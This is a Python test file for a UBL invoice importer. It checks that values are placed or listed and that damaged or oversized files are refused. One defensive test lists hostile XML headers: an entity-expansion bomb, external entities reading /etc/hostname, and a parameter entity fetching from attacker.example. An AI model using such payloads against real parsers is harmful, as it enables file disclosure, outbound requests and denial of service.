"""Invoices from UBL: every value comes out, in the subject or among what has no place."""

from __future__ import annotations

import hashlib
import json
import xml.etree.ElementTree as ElementTree
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jsonschema_rs
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from invoice_xml import FILE, FULL, MINIMAL_CREDIT_NOTE, UBL, invoice, money, party

from gardesh.exchange.ubl import Imported, read_invoice, schema_text, subject_schema
from gardesh.exchange.xml_tree import Limits
from gardesh.model.claim_forms import write_sri
from gardesh.model.identifiers import schema_formats
from gardesh.model.money import SHARED_DEFS
from gardesh.model.problem import Problem

ROOT = Path(__file__).parents[2]
REAL = ROOT.parent / "shared" / "material" / "ubl"
SHARED = {f"gardesh:{name}": schema for name, schema in SHARED_DEFS.items()}
VALIDATOR = jsonschema_rs.Draft202012Validator(
    subject_schema("en"), validate_formats=True, formats=schema_formats(), retriever=SHARED.__getitem__
)
LINE_1 = "/Invoice/cac:InvoiceLine[1]"
# What a field's name says already: the scheme of `tax_id`, the list of `hs`, the scheme of `gtin`.
IMPLIED = {"VAT", "HS", "0160"}


def codes(made: Imported) -> list[str]:
    return [problem.code for problem in made.problems]


def scalars(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        for held in value.values():
            yield from scalars(held)
    elif isinstance(value, list):
        for held in value:
            yield from scalars(held)
    else:
        yield {True: "true", False: "false"}[value] if isinstance(value, bool) else str(value)


def texts(data: bytes) -> list[str]:
    """Every text and attribute of a file, by the standard library and not by ours."""
    out = []
    for element in ElementTree.fromstring(data).iter():
        out += [text.strip() for text in (element.text, element.tail) if text and text.strip()]
        out += [value.strip() for value in element.attrib.values() if value.strip()]
    return out


def compact(text: str) -> str:
    return "".join(text.split())


def everything(made: Imported) -> Counter[str]:
    out = Counter(compact(text) for text in scalars(made.subject))
    out.update(compact(left.value) for left in made.unplaced)
    return out


def real_files() -> list[Any]:
    files = sorted(REAL.glob("*.[xX][mM][lL]"))
    absent = pytest.mark.skip(reason="../shared/material/ubl is not here")
    return [pytest.param(file, id=file.name) for file in files] or [pytest.param(None, marks=absent)]


def test_a_full_invoice_is_placed_whole_and_adds_up() -> None:
    made = read_invoice(FULL.encode())
    assert made.unplaced == ()
    assert codes(made) == []
    assert list(VALIDATOR.iter_errors(made.subject)) == []


def test_the_fields_of_an_invoice_stand_where_trade_looks_for_them() -> None:
    subject = read_invoice(FULL.encode()).subject
    assert (subject["kind"], subject["number"], subject["issue_date"]) == ("invoice", "INV-7", "2026-01-03")
    assert (subject["currency"], subject["due_date"], subject["order_reference"]) == (
        "USD",
        "2026-02-03",
        "PO-1",
    )
    assert subject["seller"]["name"] == "Seller Co"
    assert subject["seller"]["trade_name"] == "Seller Co trading"
    assert (subject["seller"]["id"], subject["seller"]["scheme"]) == ("1001", "0060")
    assert subject["seller"]["other_ids"] == [{"id": "2001"}]
    assert subject["seller"]["tax_id"] == "VAT01"
    assert subject["seller"]["tax_registrations"] == [{"id": "LOC01", "scheme": "LOC"}]
    assert subject["buyer"]["address"]["country"] == "IR"
    assert subject["payee"] == {"name": "Payee Co"}
    assert subject["incoterm"] == "CIF"
    assert subject["delivery_terms"]["place"] == {"name": "Shahid Rajaee"}
    assert subject["delivery"]["location"]["id"] == "IRBND"
    line = subject["lines"][0]
    assert line["quantity"] == {"value": "20.5", "unit": "TNE"}
    assert line["price"] == {"amount": "1000.00", "currency": "USD"}
    assert (line["hs"], line["origin"], line["gtin"]) == ("080620", "TR", "2720000166053")
    assert line["classifications"] == [
        {"code": "50307", "list": "TST", "version": "3", "name": "Dried fruit"}
    ]
    assert (line["vat"]["category"], line["vat"]["rate"]) == ("Z", "0")
    assert [(a["charge"], a["amount"]["amount"]) for a in line["allowances_charges"]] == [
        (False, "4"),
        (True, "2"),
    ]
    assert subject["lines"][1]["standard_id"] == {"id": "998877", "scheme": "0088"}
    assert subject["payment_means"][0]["iban"] == "IR820540102680020817909002"
    assert subject["payment_means"][1]["account"] == "0012-3"
    assert subject["totals"]["payable"] == {"amount": "2000.25", "currency": "USD"}
    assert subject["notes"] == ["first note", "second note"]


def test_a_file_inside_comes_out_as_bytes_named_by_digest() -> None:
    made = read_invoice(FULL.encode())
    digest = write_sri(hashlib.sha256(FILE).digest())
    assert made.attachments == {digest: FILE}
    named = {"digest": digest, "size": len(FILE), "media_type": "application/pdf", "name": "contract.pdf"}
    assert made.subject["documents"][0]["file"] == named
    assert made.as_json()["attachments"] == [{"digest": digest, "size": len(FILE)}]


def test_a_credit_note_reads_like_an_invoice_whatever_the_prefixes() -> None:
    made = read_invoice(MINIMAL_CREDIT_NOTE.encode())
    assert (made.subject["kind"], made.subject["type"]) == ("credit-note", "381")
    assert made.subject["lines"][0]["quantity"] == {"value": "5", "unit": "KGM"}
    assert made.subject["lines"][0]["name"] == "کشمش"
    assert (made.unplaced, codes(made)) == ((), [])
    assert VALIDATOR.is_valid(made.subject)


def leaves(root: ElementTree.Element) -> list[tuple[ElementTree.Element, str | None]]:
    """Every element with a text (None) and every attribute (its name)."""
    out: list[tuple[ElementTree.Element, str | None]] = []
    for element in root.iter():
        if element.text and element.text.strip():
            out.append((element, None))
        out += [(element, name) for name in element.attrib]
    return out


def put(element: ElementTree.Element, attribute: str | None, text: str | None) -> None:
    if attribute is None:
        element.text = text
    else:
        element.set(attribute, text or "")


@pytest.mark.parametrize("token", ["Tok-98765", "98765.4321", "2031-07-09", "QAR"])
def test_no_value_is_lost_whatever_it_is_and_wherever_it_stands(token: str) -> None:
    root = ElementTree.fromstring(FULL)
    places = leaves(root)
    assert len(places) > 300
    for element, attribute in places:
        held = element.text if attribute is None else element.attrib[attribute]
        put(element, attribute, token)
        text = ElementTree.tostring(root)
        made = read_invoice(text)
        assert everything(made)[token] >= text.count(token.encode()), (element.tag, attribute)
        assert VALIDATOR.is_valid(made.subject) or "invoice-incomplete" in codes(made), (
            element.tag,
            attribute,
        )
        put(element, attribute, held)


def test_an_element_that_has_no_place_is_listed_with_its_path() -> None:
    extra = '<cbc:Surprise kind="odd">one</cbc:Surprise><cac:Lot><cbc:ID>two</cbc:ID></cac:Lot>'
    extra += '<x:y xmlns:x="urn:z">three</x:y>stray'
    made = read_invoice(FULL.replace("</Invoice>", extra + "</Invoice>").encode())
    assert [(left.path, left.value) for left in made.unplaced] == [
        ("/Invoice/text()", "stray"),
        ("/Invoice/cbc:Surprise", "one"),
        ("/Invoice/cbc:Surprise/@kind", "odd"),
        ("/Invoice/cac:Lot/cbc:ID", "two"),
        ("/Invoice/{urn:z}y", "three"),
    ]


def test_a_second_element_where_one_is_meant_is_listed_whole() -> None:
    second = "<cbc:RegistrationName>Other</cbc:RegistrationName><cbc:CompanyID>9</cbc:CompanyID>"
    second = f"<cac:PartyLegalEntity>{second}</cac:PartyLegalEntity>"
    text = FULL.replace("<cac:Contact>", second + "<cac:Contact>", 1)
    made = read_invoice(text.encode())
    assert made.subject["seller"]["name"] == "Seller Co"
    above = "/Invoice/cac:AccountingSupplierParty/cac:Party/cac:PartyLegalEntity[2]"
    assert [(left.path, left.value) for left in made.unplaced] == [
        (f"{above}/cbc:RegistrationName", "Other"),
        (f"{above}/cbc:CompanyID", "9"),
    ]


def test_parts_of_two_elements_are_never_put_together() -> None:
    first = (
        "<cac:PartyLegalEntity><cbc:CompanyLegalForm>First form</cbc:CompanyLegalForm></cac:PartyLegalEntity>"
    )
    made = read_invoice(FULL.replace("<cac:PartyLegalEntity>", first + "<cac:PartyLegalEntity>", 1).encode())
    assert made.subject["seller"]["legal_form"] == "First form"
    assert "registration" not in made.subject["seller"]
    assert "REG01" in {left.value for left in made.unplaced}


def test_an_attribute_that_says_more_than_its_field_is_listed() -> None:
    text = FULL.replace(
        'currencyID="USD">2000.25<', 'currencyID="USD" currencyCodeListVersionID="2015">2000.25<'
    )
    (left,) = read_invoice(text.encode()).unplaced
    assert (left.path, left.value) == (
        "/Invoice/cac:LegalMonetaryTotal/cbc:PayableAmount/@currencyCodeListVersionID",
        "2015",
    )


def test_what_has_no_meaning_without_a_part_that_is_missing_is_listed_whole() -> None:
    one = f"<cac:AllowanceCharge>{money('Amount', '7')}<cbc:AllowanceChargeReason>why</cbc:AllowanceChargeReason>"
    made = read_invoice(
        FULL.replace("<cac:TaxExchangeRate>", one + "</cac:AllowanceCharge><cac:TaxExchangeRate>").encode()
    )
    above = "/Invoice/cac:AllowanceCharge[3]"
    assert [(left.path, left.value) for left in made.unplaced] == [
        (f"{above}/cbc:Amount", "7"),
        (f"{above}/cbc:Amount/@currencyID", "USD"),
        (f"{above}/cbc:AllowanceChargeReason", "why"),
    ]


def test_a_file_whose_reference_has_no_number_stays_in_the_list() -> None:
    made = read_invoice(FULL.replace("<cbc:ID>ADD1</cbc:ID>", "").encode())
    assert made.attachments == {}
    assert any(left.path.endswith("cbc:EmbeddedDocumentBinaryObject") for left in made.unplaced)


@pytest.mark.parametrize(
    ("old", "new", "path"),
    [
        ("<cbc:IssueDate>2026-01-03<", "<cbc:IssueDate>3.1.2026<", "/Invoice/cbc:IssueDate"),
        ('unitCode="TNE">20.5<', 'unitCode="tonnes">20.5<', f"{LINE_1}/cbc:InvoicedQuantity/@unitCode"),
        ('unitCode="TNE">20.5<', 'unitCode="TNE">20,5<', f"{LINE_1}/cbc:InvoicedQuantity"),
        (">TR</cbc:IdentificationCode></cac:OriginCountry>", ">Turkey</cbc:IdentificationCode></cac:OriginCountry>",
         f"{LINE_1}/cac:Item/cac:OriginCountry/cbc:IdentificationCode"),
    ],
)  # fmt: skip
def test_a_value_in_the_wrong_form_is_listed_with_the_reason(old: str, new: str, path: str) -> None:
    assert old in FULL
    made = read_invoice(FULL.replace(old, new, 1).encode())
    reasons = {left.path: left.flaw for left in made.unplaced}
    flaw = reasons[path]
    assert flaw is not None
    assert flaw.fa
    assert flaw.en


def test_a_file_that_is_not_base64_is_listed_and_no_bytes_come_out() -> None:
    made = read_invoice(FULL.replace('filename="contract.pdf">', 'filename="contract.pdf">!').encode())
    assert made.attachments == {}
    assert any(left.path.endswith("EmbeddedDocumentBinaryObject") for left in made.unplaced)


def test_numbers_are_written_one_way_and_keep_their_digits() -> None:
    line = '<cac:InvoiceLine><cbc:InvoicedQuantity unitCode="KGM">{}</cbc:InvoicedQuantity></cac:InvoiceLine>'
    for text, written in (
        ("+05.50", "5.50"),
        (".5", "0.5"),
        ("5.", "5"),
        ("-0.0", "0.0"),
        ("000", "0"),
        ("-007", "-7"),
    ):
        made = read_invoice(invoice(line.format(text)))
        assert made.subject["lines"][0]["quantity"]["value"] == written
    for text in ("1e3", "1 000", "--1", ".", "", "1" * 21, "0." + "1" * 11):
        assert "lines" not in read_invoice(invoice(line.format(text))).subject


def test_what_is_presentation_in_a_code_is_left_out() -> None:
    made = read_invoice(
        FULL.replace(">080620<", ">0806.20<").replace(">IR82054010", ">IR82 0540 10").encode()
    )
    assert made.subject["lines"][0]["hs"] == "080620"
    assert made.subject["payment_means"][0]["iban"] == "IR820540102680020817909002"


def test_a_tariff_code_of_another_country_stays_a_classification() -> None:
    made = read_invoice(FULL.replace(">080620<", ">0806203010<").encode())
    assert "hs" not in made.subject["lines"][0]
    assert made.subject["lines"][0]["classifications"][0] == {"code": "0806203010", "list": "HS"}


def test_terms_of_delivery_that_are_no_incoterm_keep_their_code() -> None:
    made = read_invoice(FULL.replace("<cbc:ID>CIF<", "<cbc:ID>by mule<").encode())
    assert "incoterm" not in made.subject
    assert made.subject["delivery_terms"]["code"] == "by mule"


def test_what_an_invoice_must_say_and_does_not_is_named() -> None:
    made = read_invoice(
        invoice(
            "<cbc:ID>1</cbc:ID>",
            f"<cac:AccountingSupplierParty>{party('S', '01', 'TR')}</cac:AccountingSupplierParty>",
        )
    )
    missing = {p.pointer for p in made.problems if p.code == "invoice-incomplete"}
    assert missing == {"/issue_date", "/currency", "/buyer", "/lines", "/totals"}
    made = read_invoice(FULL.replace("<cbc:Name>Raisins</cbc:Name>", "").encode())
    assert [p.pointer for p in made.problems] == ["/lines/0/name"]
    assert "نام کالا" in made.problems[0].sentence("fa")


def test_an_amount_without_a_currency_takes_that_of_the_invoice_and_says_so() -> None:
    made = read_invoice(FULL.replace('<cbc:PaidAmount currencyID="USD">', "<cbc:PaidAmount>").encode())
    assert made.subject["prepayments"][0]["amount"] == {"amount": "74.00", "currency": "USD"}
    assert codes(made) == ["invoice-currency-assumed"]


@pytest.mark.parametrize(
    "data",
    [
        b"<Order xmlns='" + UBL.encode() + b"Order-2'/>",
        b"<Invoice/>x",
        b"",
        b"plain",
        b"\xff\xfe\x00",
        b"<a><b></a>",
    ],
)
def test_what_is_no_invoice_is_refused(data: bytes) -> None:
    with pytest.raises(Problem) as caught:
        read_invoice(data)
    assert caught.value.code in ("xml-malformed", "ubl-not-an-invoice")


def test_an_invoice_of_another_vocabulary_is_refused() -> None:
    with pytest.raises(Problem) as caught:
        read_invoice(b'<Invoice xmlns="urn:of:someone/else"><ID>1</ID></Invoice>')
    assert caught.value.code == "ubl-not-an-invoice"


BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'


@pytest.mark.parametrize(
    "head",
    [
        BOMB,
        "<!DOCTYPE Invoice>",
        '<!DOCTYPE x SYSTEM "file:///etc/hostname">',
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x"> %p;]>',
    ],
)
def test_document_types_and_entities_are_refused(head: str) -> None:
    body = FULL.partition("?>")[2].replace("first note", "&b;" if "ENTITY b" in head else "note")
    with pytest.raises(Problem) as caught:
        read_invoice((head + body).encode())
    assert caught.value.code == "xml-forbidden"


@pytest.mark.parametrize(
    ("data", "limits"),
    [
        (FULL.encode(), Limits(bytes=1000)),
        (FULL.encode(), Limits(elements=50)),
        (invoice("<cac:A>" * 100, "</cac:A>" * 100), Limits()),
        (invoice("<cac:A>" * 200_000), Limits()),
    ],
)
def test_files_beyond_the_limits_are_refused(data: bytes, limits: Limits) -> None:
    with pytest.raises(Problem) as caught:
        read_invoice(data, limits)
    assert caught.value.code == "xml-too-large"


SOURCE = FULL.encode()
edits = st.lists(
    st.tuples(
        st.integers(0, len(SOURCE) - 1),
        st.integers(0, 40),
        st.binary(max_size=12)
        | st.sampled_from([b"<", b">", b"&", b"</", b'"', b"<cbc:ID>", b"</cac:Item>", b"\x00", b"]]>"]),
    ),
    min_size=1,
    max_size=6,
)


def judged(data: bytes) -> None:
    try:
        made = read_invoice(data)
    except Problem as problem:
        refusal = problem.code
    else:
        json.dumps(made.as_json(), ensure_ascii=False)
        assert VALIDATOR.is_valid(made.subject) or "invoice-incomplete" in codes(made)
        return
    assert refusal in ("xml-malformed", "xml-forbidden", "xml-too-large", "ubl-not-an-invoice")


@given(edits)
def test_a_damaged_invoice_is_read_or_refused_but_never_breaks_the_reader(
    changes: list[tuple[int, int, bytes]],
) -> None:
    data = SOURCE
    for place, length, new in changes:
        data = data[:place] + new + data[place + length :]
    judged(data)


@given(st.binary(max_size=200))
def test_bytes_of_any_kind_are_refused_or_read(data: bytes) -> None:
    judged(data)


@given(st.data())
def test_an_invoice_whose_elements_were_moved_about_loses_nothing(data: st.DataObject) -> None:
    root = ElementTree.fromstring(FULL)
    elements = list(root.iter())
    for _ in range(data.draw(st.integers(1, 4))):
        new_home, moved = data.draw(st.sampled_from(elements)), data.draw(st.sampled_from(elements))
        if moved is not root and new_home not in list(moved.iter()):
            for parent in elements:
                if moved in list(parent):
                    parent.remove(moved)
            new_home.append(moved)
    text = ElementTree.tostring(root)
    made = read_invoice(text)
    lost = Counter(compact(t) for t in texts(text)) - everything(made)
    file = [t for t in lost if t.startswith("dGhl")]
    assert set(lost) - IMPLIED - (set(file) if made.attachments else set()) <= {"CIF"}
    assert VALIDATOR.is_valid(made.subject) or "invoice-incomplete" in codes(made)


@pytest.mark.parametrize("file", real_files())
def test_official_examples_are_read_whole(file: Path) -> None:
    data = file.read_bytes()
    made = read_invoice(data)
    assert "invoice-incomplete" not in codes(made)
    assert list(VALIDATOR.iter_errors(made.subject)) == []
    assert {left.path for left in made.unplaced} <= {"/Invoice/@xsi:schemaLocation"}
    lost = Counter(compact(text) for text in texts(data)) - everything(made)
    assert set(lost) <= IMPLIED


def test_the_pack_carries_the_schema_that_the_reader_follows() -> None:
    file = ROOT / "packs" / "trade" / "documents" / "commercial-invoice.schema.yaml"
    assert file.read_text(encoding="utf-8") == schema_text()
    assert yaml.safe_load(schema_text()) == subject_schema()
    document = yaml.safe_load((file.parent / "commercial-invoice.yaml").read_bytes())
    assert document["schema"] == subject_schema()


def test_the_schema_is_valid_and_every_field_has_titles_in_both_languages() -> None:
    jsonschema_rs.meta.validate(subject_schema("fa"))
    untitled = []

    def walk(schema: dict[str, Any], at: str) -> None:
        for name, held in schema.get("properties", {}).items():
            if at != "/file" and not (held.get("title", {}).get("fa") and held["title"].get("en")):
                untitled.append(f"{at}/{name}")
            walk(held.get("items", held), "/file" if name == "file" else f"{at}/{name}")

    walk(subject_schema(), "")
    assert untitled == []


def test_money_is_text_in_the_subject_and_never_a_float() -> None:
    def floats(value: Any) -> bool:
        if isinstance(value, dict):
            return any(map(floats, value.values()))
        return any(map(floats, value)) if isinstance(value, list) else isinstance(value, float)

    assert not floats(read_invoice(FULL.encode()).subject)
